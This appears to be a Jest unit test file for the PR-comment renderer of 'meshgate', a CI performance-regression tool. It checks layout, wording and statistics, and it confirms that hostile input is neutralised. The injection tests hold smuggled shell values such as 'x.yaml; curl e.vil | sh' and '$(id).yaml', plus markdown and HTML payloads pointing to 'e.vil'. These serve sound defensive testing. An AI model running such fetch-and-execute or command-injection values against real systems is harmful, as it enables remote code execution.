// test-group: unit
/**
 * The PR comment: golden files for five cases (review their diffs like code; regenerate with
 * UPDATE_GOLDENS=1; a missing one fails), and the rules behind the layout checked on their own.
 */
import { describe, expect, it } from '@jest/globals';
import { resolve } from 'node:path';
import { renderComment } from '../../../src/report/comment/comment.js';
import { estimateResolution, reproduceCommands } from '../../../src/report/comment/next-steps.js';
import { displayStatus } from '../../../src/report/status.js';
import { decide } from '../../../src/verdict/decide.js';
import { commentScenarios } from '../../__fixtures__/comments.js';
import { around, makeResults } from '../../__fixtures__/results.js';
import { expectGolden } from '../../helpers/golden.js';

const OUTPUTS = resolve('__tests__/__outputs__');
const scenarios = commentScenarios();

describe.each(scenarios)('the $name comment', ({ name, results, verdict }) => {
  const comment = renderComment(results, verdict);

  it('matches its golden file', () => {
    expectGolden(resolve(OUTPUTS, `comment-${name}.md`), comment);
  });

  it('opens with a one-line verdict, the counts and the commits compared', () => {
    const lines = comment.split('\n');
    expect(lines[0]).toMatch(/^## meshgate · fixture: (✅ pass|❌ regression|❔ inconclusive)$/);
    expect(lines[2]).toMatch(/^\*\*.*\(of \d+ gating checks?\)\*\* — .*Compared: .*`[0-9a-f]{7}`/);
  });

  it('has tables of five columns with the status first', () => {
    const headers = comment.split('\n').filter((line) => line.startsWith('| status |'));
    expect(headers.length).toBeGreaterThan(0);
    for (const header of headers) expect(header.split(' | ')).toHaveLength(5);
  });

  it('never words an inconclusive verdict as a pass', () => {
    if (verdict.verdict !== 'inconclusive') return;
    const top = comment.split('### ')[0];
    expect(top).not.toMatch(/pass(es|ed)? this|would pass|gate passes/i);
    expect(top).toMatch(/not judged/);
  });
});

describe('comment rules', () => {
  const [regression, , inconclusive, crossJob] = scenarios;

  it('before → after agree with the change: after = before × (1 + change)', () => {
    const rows = renderComment(regression.results, regression.verdict)
      .split('\n')
      .map((line) => line.match(/^\| [^|]+ \| p\d+ \| ([\d.]+) → ([\d.]+) ms \| ([+−][\d.]+)% /))
      .filter((match) => match !== null);
    expect(rows.length).toBeGreaterThanOrEqual(2);
    for (const [, before, after, change] of rows)
      expect(Number(after) / Number(before) - 1).toBeCloseTo(Number(change.replace('−', '-')) / 100, 2);
  });

  it('an interval wider than the threshold reads "too noisy to judge", with what would resolve it', () => {
    const p99 = inconclusive.verdict.checks.find((c) => c.metric === 'p99' && c.gating)!;
    expect(p99.verdict).toBe('inconclusive');
    expect(displayStatus(p99)).toBe('noisy');
    const comment = renderComment(inconclusive.results, inconclusive.verdict);
    expect(comment).toContain('| ❔ too noisy to judge | p99 |');
    expect(comment).toMatch(
      /\*\*More trials\*\*: about \d+ trials per variant instead of 6, \d+ more each \(about \d+ s of load\)/,
    );
  });

  it('a row judged at a stricter level says so under its table, and its trial estimate counts it', () => {
    const p99 = inconclusive.verdict.checks.find((c) => c.metric === 'p99' && c.gating)!;
    expect(p99.lookConfidence).toBe(inconclusive.verdict.sequential.confidence);
    expect(p99.confidence).toBeGreaterThan(p99.lookConfidence!);
    const comment = renderComment(inconclusive.results, inconclusive.verdict);
    expect(comment).toMatch(/\np99: 98\.8% interval, as its pairs spread wider than the threshold/);
    // The same run with every row at the look's level needs no more trials than the stricter level
    // asks for. Here both need the same: to be judged at all the half-width must come under θ at the
    // look's level, and once it does the row is judged at that level again.
    const { look, maxLooks } = inconclusive.verdict.sequential;
    const atLook = decide(inconclusive.results, { look, maxLooks, rule: { noisyAlphaFactor: 1 } });
    const strict = estimateResolution(inconclusive.results, inconclusive.verdict).pairsNeeded!;
    expect(strict).toBeGreaterThanOrEqual(estimateResolution(inconclusive.results, atLook).pairsNeeded!);
    expect(renderComment(inconclusive.results, atLook)).not.toContain('interval, as its pairs spread');
  });

  it('cross-job: names the baseline run and its commit, and the command with --baseline', () => {
    const comment = renderComment(crossJob.results, crossJob.verdict);
    expect(comment).toContain('against the baseline run of commit `1d4e7b9`');
    expect(comment).toContain('check results.json --baseline base-results.json');
  });

  it('every string from the results file is inert: ids, reasons, environment', () => {
    const hostile = makeResults({
      histograms: true,
      variants: {
        'base/none': { p99Ms: around(10, 6, 0.02) },
        'head/none': { p99Ms: around(12, 6, 0.02, 2) },
      },
    });
    const evil = '@octocat <img src=x> [x](https://e.vil) | ![i](https://e.vil/i.png) <!-- meshgate';
    hostile.environment.runner = evil;
    hostile.profile.name = evil;
    const verdict = decide(hostile);
    verdict.checks = verdict.checks.map((c) => ({ ...c, variant: evil, comparedWith: evil, reason: evil }));
    verdict.reason = evil;
    verdict.notes = [evil];
    const comment = renderComment(hostile, verdict);
    expect(comment).not.toMatch(/@octocat/);
    expect(comment).not.toContain('<img');
    expect(comment).not.toContain('<!--');
    expect(comment).not.toContain('](https://e.vil');
    expect(comment).toContain('npx meshgate@0 run PATH/TO/PROFILE.yaml --out results.json');
  });

  it('prints a recorded origin only as inert words: a hostile path or argument leaves a placeholder', () => {
    const lines = (origin: object) =>
      reproduceCommands(
        { ...makeResults({ variants: { 'head/none': { p99Ms: [10, 10, 10] } } }), origin } as Parameters<
          typeof reproduceCommands
        >[0],
        false,
      );
    expect(lines({ profile: '.github/meshgate/pr-p99.yaml' })[0]).toBe(
      'npx meshgate@0 run .github/meshgate/pr-p99.yaml --out results.json',
    );
    for (const profile of [
      'x.yaml; curl e.vil | sh',
      '$(id).yaml',
      '../../etc/x.yaml',
      '-rf',
      'a b.yaml',
      'x`id`',
    ])
      expect(lines({ profile })[0]).toMatch(
        /^npx meshgate@0 run PATH\/TO\/[a-z0-9-]+\.yaml --out results\.json$/,
      );
    expect(lines({ importArgs: ['runs/a.json', '--variant', 'head/none', '--out', 'results.json'] })[0]).toBe(
      'npx meshgate@0 import runs/a.json --variant head/none --out results.json',
    );
    // One bad argument and the import is not printed at all (a run placeholder instead).
    expect(lines({ importArgs: ['runs/a.json', '--exec=$(id)', '--out', 'results.json'] })[0]).toMatch(
      /^npx meshgate@0 run PATH\/TO\//,
    );
    expect(lines({ importArgs: ['runs/a.json;id'] })[0]).toMatch(/^npx meshgate@0 run PATH\/TO\//);
  });

  it('shows a minimum detectable effect when the verdict rows carry one', () => {
    const verdict = structuredClone(regression.verdict);
    verdict.checks[0].minimumDetectableChange = 0.042;
    expect(renderComment(regression.results, verdict)).toMatch(/\| 6 \| ±4\.2% \|/);
  });
});
